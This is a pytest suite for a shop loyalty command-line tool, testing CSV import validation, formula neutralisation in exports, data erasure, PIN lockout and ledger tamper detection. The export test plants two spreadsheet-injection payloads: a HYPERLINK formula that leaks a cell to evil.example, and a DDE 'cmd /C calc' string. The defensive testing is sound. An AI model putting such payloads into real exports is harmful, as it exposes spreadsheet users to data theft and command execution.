"""Hostile and careless input at the command line, as real processes on real files:
malformed CSVs, formula cells in exports, erasure that erases, owner PINs, the sealed ledger."""
from __future__ import annotations

import csv
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

MAIN = Path(__file__).resolve().parent.parent / "main.py"


def run(*args: str, pin: str | None = "1111") -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "POSLOYALTY_PIN"}
    if pin is not None:
        env["POSLOYALTY_PIN"] = pin
    if "--language" not in args:  # the messages asserted are the English ones
        args = (*args, "--language", "en")
    return subprocess.run([sys.executable, str(MAIN), *args], capture_output=True, text=True,
                          env=env, stdin=subprocess.DEVNULL, timeout=120)


@pytest.fixture(scope="module")
def demo(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("guard") / "demo.db"
    assert run("demo", "--db", str(path), "--members", "25", "--months", "2").returncode == 0
    return path


@pytest.fixture
def shop_db(demo, tmp_path) -> Path:
    copy = tmp_path / "shop.db"
    shutil.copy(demo, copy)
    return copy


def count(db: Path, table: str) -> int:
    conn = sqlite3.connect(db)
    try:
        return conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
    finally:
        conn.close()


# -- 1. malformed CSV files -----------------------------------------------------------

BAD_FILES = {
    "cr_only_bad_price": (b"barcode,name,price\r111,Milk,abc\r", "line 2, price"),
    "megabyte_cell": (b"barcode,name,price\n111," + b"x" * 1_000_000 + b",10\n", "line 2"),
    "undecodable_0x98": (b"barcode;name;price\n111;\x98\xff;10\n", "byte 0x98 at line 2"),
    "nul_bytes": (b"barcode,name,price\n111,Mi\x00lk,10\n", "NUL byte at line 2"),
    "utf16_without_bom": ("barcode,name,price\n111,Milk,10\n".encode("utf-16-le"), "NUL byte"),
    "price_5000_nines": (b"barcode,name,price\n111,Milk," + b"9" * 5000 + b"\n", "line 2, price"),
    "control_char": (b"barcode,name,price\n111,Mi\x1blk,10\n", "control character 0x1b"),
    "empty": (b"", "empty"),
}


@pytest.mark.parametrize("name", sorted(BAD_FILES))
@pytest.mark.parametrize("command", ["import-products", "import-customers"])
def test_a_malformed_csv_is_one_line_exit_1_nothing_imported(shop_db, tmp_path, name,
                                                             command) -> None:
    data, expected = BAD_FILES[name]
    if command == "import-customers":
        data = data.replace(b"barcode", b"phone")
    bad = tmp_path / f"{name}.csv"
    bad.write_bytes(data)
    before = (count(shop_db, "products"), count(shop_db, "members"))
    result = run(command, str(bad), "--db", str(shop_db))
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr and result.stderr.count("\n") == 1
    assert len(result.stderr) < 1_500
    if command == "import-products" or "line 2" not in expected:
        assert expected in result.stderr
    assert (count(shop_db, "products"), count(shop_db, "members")) == before


@pytest.mark.parametrize("encoding, line_end", [("utf-16", "\n"), ("utf-8-sig", "\r"),
                                                ("cp1251", "\r\n"), ("utf-8", "\n")])
def test_every_accepted_encoding_imports(shop_db, tmp_path, encoding, line_end) -> None:
    good = tmp_path / "good.csv"
    good.write_bytes(line_end.join(["barcode;name;price", "4600000000015;Хлеб ржаной;45,50", ""])
                     .encode(encoding))
    result = run("import-products", str(good), "--db", str(shop_db))
    assert result.returncode == 0, result.stderr
    conn = sqlite3.connect(shop_db)
    assert conn.execute("SELECT name, price_minor FROM products WHERE barcode = '4600000000015'"
                        ).fetchone() == ("Хлеб ржаной", 4550)


# -- 2. formula cells in exports -------------------------------------------------------

def test_exports_neutralise_formula_cells_but_keep_negative_numbers(shop_db, tmp_path) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    conn = sqlite3.connect(shop_db)
    conn.execute("UPDATE members SET name = ? WHERE member_id = 1", [evil])
    conn.execute("UPDATE staff SET name = ? WHERE role = 'cashier'", ["=2+5+cmd|' /C calc'!A0"])
    conn.commit()
    conn.close()
    for what in ("members", "sales", "ledger"):
        out = tmp_path / f"{what}.csv"
        assert run("export", what, "--db", str(shop_db), "--out", str(out)).returncode == 0
        with out.open(encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], what
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
        if what == "members":
            assert "'" + evil in cells
            assert stat.S_IMODE(out.stat().st_mode) == 0o600
        if what == "sales":
            assert "'=2+5+cmd|' /C calc'!A0" in cells
        if what == "ledger":  # points spent stay negative numbers
            assert any(c.startswith("-") and c[1:].isdigit() for c in cells)


# -- 3. erasure that erases ------------------------------------------------------------

def test_member_erase_leaves_no_trace_in_the_raw_file(shop_db, tmp_path) -> None:
    conn = sqlite3.connect(shop_db)
    name, phone, email = "Zinaida Erasable", "+79167770011", "zina.erasable@example.org"
    conn.execute("UPDATE members SET name = ?, phone = ?, email = ? WHERE member_id = 3",
                 [name, phone, email])
    for basket_id, ref in (("p1", phone), ("p2", "8 (916) 777-00-11")):  # as typed at the till
        basket = json.dumps({"basket_id": basket_id, "customer_ref": ref, "lines": [],
                             "coupon_codes": [], "redeem_points": 0})
        conn.execute("INSERT INTO parked_baskets VALUES (?, '2026-11-20T10:00:00+00:00', NULL, "
                     "?, ?)", [basket_id, f"for {name}", basket])
    conn.execute("INSERT INTO audit_log (at, staff_id, action, subject, detail) VALUES "
                 "('2026-11-20T10:00:00+00:00', NULL, 'points_adjust', 'member 3', ?)",
                 [json.dumps({"reason": f"gift to {name}, call {phone}"}, ensure_ascii=False)])
    conn.commit()
    conn.close()
    export = tmp_path / "m3.json"
    assert run("member-export", "3", "--db", str(shop_db), "--out", str(export)).returncode == 0
    assert json.loads(export.read_text("utf-8"))["profile"]["phone"] == phone
    assert stat.S_IMODE(export.stat().st_mode) == 0o600
    result = run("member-erase", "3", "--db", str(shop_db))
    assert result.returncode == 0, result.stderr
    raw = shop_db.read_bytes() + (Path(f"{shop_db}-wal").read_bytes()
                                  if Path(f"{shop_db}-wal").exists() else b"")
    for value in (name, phone, phone.lstrip("+"), email, "777-00-11"):
        assert value.encode() not in raw, value
    assert run("verify", "--db", str(shop_db)).returncode == 0
    assert run("member-erase", "3", "--db", str(shop_db)).returncode == 1  # once is enough


# -- 4. PINs --------------------------------------------------------------------------

@pytest.mark.parametrize("args", [("export", "members", "--out", "x.csv"), ("backup", "--out", "b.db"),
                                  ("member-export", "1", "--out", "m.json"), ("member-erase", "1"),
                                  ("import-customers", "x.csv"), ("cards", "--new", "1", "--out", "c.pdf")])
def test_owner_commands_need_the_owners_pin(shop_db, tmp_path, args) -> None:
    args = tuple(str(tmp_path / a) if a.endswith((".csv", ".db", ".json", ".pdf")) else a
                 for a in args)
    for pin, says in ((None, "needs the owner's PIN"), ("2222", "not a cashier's")):
        result = run(*args, "--db", str(shop_db), pin=pin)
        assert result.returncode == 1 and says in result.stderr
    assert count(shop_db, "members") == 25 and not any(tmp_path.glob("x.csv"))


def test_wrong_pins_at_the_command_line_are_counted_in_the_file(shop_db, tmp_path) -> None:
    out = str(tmp_path / "m.csv")
    for n in range(1, 6):  # each a new process, waiting out the pause the last one earned
        result = run("export", "members", "--db", str(shop_db), "--out", out, pin="0000")
        assert result.returncode == 1 and "wrong PIN" in result.stderr
        wait = int(result.stderr.rsplit("wait ", 1)[1].split()[0])
        assert wait == (n if n < 5 else 300)
        if n < 5:
            time.sleep(wait + 0.1)
    # five wrong PINs lock every prompt for five minutes: the right PIN in a new process too
    result = run("export", "members", "--db", str(shop_db), "--out", out, "--pin", "1111",
                 pin=None)
    assert result.returncode == 1 and "too many wrong PINs" in result.stderr
    assert not Path(out).exists()


def test_database_and_backup_are_private_to_their_owner(tmp_path) -> None:
    db = tmp_path / "new.db"
    from loyalty.shop import open_shop
    open_shop(db).close()  # a new shop, as the first start makes it
    assert run("import-products", str(tmp_path / "missing.csv"), "--db", str(db)).returncode == 1
    backup = tmp_path / "b.db"
    assert run("backup", "--db", str(db), "--out", str(backup)).returncode == 0
    for path in (db, backup, Path(f"{db}-wal")):
        if path.exists():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


# -- 5. the sealed ledger -------------------------------------------------------------

def _seal(db: Path, tmp_path: Path, month: str = "2026-11") -> str:
    out = tmp_path / "r.json"
    assert run("report", "--month", month, "--db", str(db), "--out", str(tmp_path / "r.pdf"),
               "--json", str(out)).returncode == 0
    return json.loads(out.read_text("utf-8"))["ledger_seal"]


def test_a_raw_insert_is_named_by_verify(shop_db) -> None:
    conn = sqlite3.connect(shop_db)
    conn.execute("INSERT INTO ledger (member_id, kind, points, at, available_at) VALUES "
                 "(1, 'adjust', 99999, '2026-11-15T10:00:00+00:00', '2026-11-15T10:00:00+00:00')")
    entry = conn.execute("SELECT MAX(entry_id) FROM ledger").fetchone()[0]
    conn.commit()
    conn.close()
    result = run("verify", "--db", str(shop_db))
    assert result.returncode == 1
    assert f"ledger entry {entry} was written behind the till's back" in result.stdout
    assert f"ledger entry {entry}: an adjustment of +99999 points without staff or reason" \
        in result.stdout


def test_an_edit_with_triggers_dropped_and_recreated_breaks_the_chain_and_the_seal(
        shop_db, tmp_path) -> None:
    seal = _seal(shop_db, tmp_path)
    assert len(seal) == 64
    assert run("verify", "--db", str(shop_db), "--seal", f"2026-11={seal}").returncode == 0
    conn = sqlite3.connect(shop_db)
    sql = conn.execute("SELECT sql FROM sqlite_master WHERE name = 'ledger_append_only_update'"
                       ).fetchone()[0]
    conn.execute("DROP TRIGGER ledger_append_only_update")
    entry = conn.execute("SELECT MIN(entry_id) FROM ledger WHERE kind = 'purchase'").fetchone()[0]
    conn.execute("UPDATE ledger SET points = points + 1 WHERE entry_id = ?", [entry])
    conn.execute(sql)
    conn.commit()
    conn.close()
    result = run("verify", "--db", str(shop_db), "--seal", f"2026-11={seal}")
    assert result.returncode == 1
    assert f"ledger entry {entry} was changed after it was written" in result.stdout
    assert "ledger seal of 2026-11 does not match" in result.stdout
